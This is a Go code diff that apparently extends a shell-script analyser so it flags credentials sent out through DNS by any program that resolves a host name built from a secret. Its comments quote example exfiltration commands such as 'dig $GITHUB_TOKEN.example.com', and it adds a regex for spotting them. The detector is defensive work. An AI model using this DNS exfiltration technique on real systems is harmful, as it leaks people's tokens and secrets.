@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"net/netip"
 	"path"
+	"regexp"
 	"slices"
 	"strings"
 
@@ -542,6 +543,13 @@ func (r *run) secretEgress(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs,
 		// whatever it holds: a credential in it leaves the machine
 		// (dig $GITHUB_TOKEN.example.com).
 		r.judgeEgress(b, r.sentCredentials(sc, s, call, fs), nil, cmd)
+		return
+	}
+	if names := r.credentialHostNames(sc, call); len(names) > 0 && !urlPrograms[b] && !networkSenders[b] && !r.printsOnly(b) {
+		// Any program that resolves a host name sends it to DNS servers
+		// (ntpdate $GITHUB_TOKEN.example.com, snmptrap, ssh, psql -h):
+		// a name built from a credential leaves the machine.
+		r.judgeEgress(b, names, nil, cmd)
 		return
 	}
 	if names := r.containerCredentials(sc, b, call, fs); len(names) > 0 {
@@ -2391,4 +2399,36 @@ func ignoreMatch(pattern, name string) bool {
 	p := strings.TrimSuffix(strings.TrimPrefix(strings.TrimPrefix(pattern, "./"), "/"), "/")
 	m, _ := path.Match(p, name)
 	return m
+}
+
+// printsOnly reports whether b only prints the text it is given (echo,
+// printf, and the builtins that take text).
+func (r *run) printsOnly(b string) bool {
+	if b == "printf" {
+		return true
+	}
+	ce, _ := r.a.lookupEntry(b)
+	return ce != nil && textOnly(ce.e)
+}
+
+// credentialInName is a variable's expansion followed by two or more
+// labels of a host name ($T.example.com, ${T}.a.example).
+var credentialInName = regexp.MustCompile(`\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?\.[A-Za-z0-9-]+\.[A-Za-z]`)
+
+// credentialHostNames returns the credentials whose values the words of
+// call build host names from.
+func (r *run) credentialHostNames(sc *scope, call *syntax.CallExpr) []string {
+	var names []string
+	for _, w := range call.Args[1:] {
+		t := r.nodeText(sc, w)
+		if !strings.Contains(t, "$") {
+			continue
+		}
+		for _, m := range credentialInName.FindAllStringSubmatch(t, maxEmbedded) {
+			if r.a.isCredential(m[1]) && !slices.Contains(names, m[1]) {
+				names = append(names, m[1])
+			}
+		}
+	}
+	return names
 }
